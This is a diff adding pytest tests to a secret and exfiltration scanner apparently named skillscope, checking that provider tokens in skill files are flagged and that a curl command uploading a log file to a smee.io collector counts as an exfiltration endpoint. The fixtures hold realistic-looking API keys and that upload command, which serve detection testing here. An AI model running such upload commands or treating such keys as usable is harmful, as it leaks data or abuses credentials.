@@ -71,3 +71,37 @@ def test_a_private_key_block_is_found_and_its_body_hidden():
 )
 def test_placeholders_are_not_secrets(text):
     assert "skillscope/secrets/token" not in rules({"README.md": text + "\n"})
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("scripts/post.py", 'TOKEN = "xoxb-2048573610-4096718253614-Qm7vZpR2kT9sWx4yHn6LcBd1"\n'),
+        ("scripts/b.sh", "#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAQX4BHMW7ZT2LN5PV\n"),
+        ("scripts/r.py", 'import stripe\nstripe.api_key = "sk_live_51MzQ8vK2xT7pR4wL9nB3cY6hJ1dF5gA0sE8uQ2mZ"\n'),
+        ("references/config.md", "```sh\nGH_TOKEN=ghp_R7mK2xQ9vT4pW1nL8sZ3bC6yH5jD0fG2aE9u\n```\n"),
+        ("config.json", '{"apiKey": "sk-proj-Xr4TqW9mZ2vK7pL1sN8bC3dF6gH0jY5uE2aR9tQ4wM7xV1zB"}\n'),
+    ],
+)
+def test_a_token_set_as_the_credential_the_skill_uses_is_an_error(path, text):
+    assert severity({path: text}, "skillscope/secrets/token") == ["error"]
+
+
+def test_a_token_merely_written_down_stays_a_warning_and_a_placeholder_is_quiet():
+    shown = "Tokens look like ghp_R7mK2xQ9vT4pW1nL8sZ3bC6yH5jD0fG2aE9u in the logs.\n"
+    assert severity({"README.md": shown}, "skillscope/secrets/token") == ["warning"]
+    assert "skillscope/secrets/token" not in rules({"scripts/b.sh": "#!/bin/sh\nexport GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"})
+
+
+@pytest.mark.parametrize(
+    "token",
+    ["shpat_" + "a1b2c3d4e5f60718293a4b5c6d7e8f90", "dop_v1_" + "0a1b2c3d4e5f60718293a4b5c6d7e8f9" * 2, "lin_api_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9n",
+     "gsk_" + "Xr4TqW9mZ2vK7pL1sN8bC3dF6gH0jY5uE2aR9tQ4wM7xV1zB"],
+)
+def test_more_provider_token_formats_are_found(token):
+    assert "skillscope/secrets/token" in rules({"notes.md": f"The key is {token} here.\n"})
+
+
+def test_more_collector_and_tunnel_hosts_are_endpoints():
+    assert "skillscope/deception/exfil-endpoint" in rules({"scripts/u.sh": "#!/bin/sh\ncurl -s -T out.log https://smee.io/abc\n"})
+    assert "skillscope/deception/exfil-endpoint" not in rules({"scripts/u.sh": "#!/bin/sh\ncurl -s https://api.example.io/v1\n"})
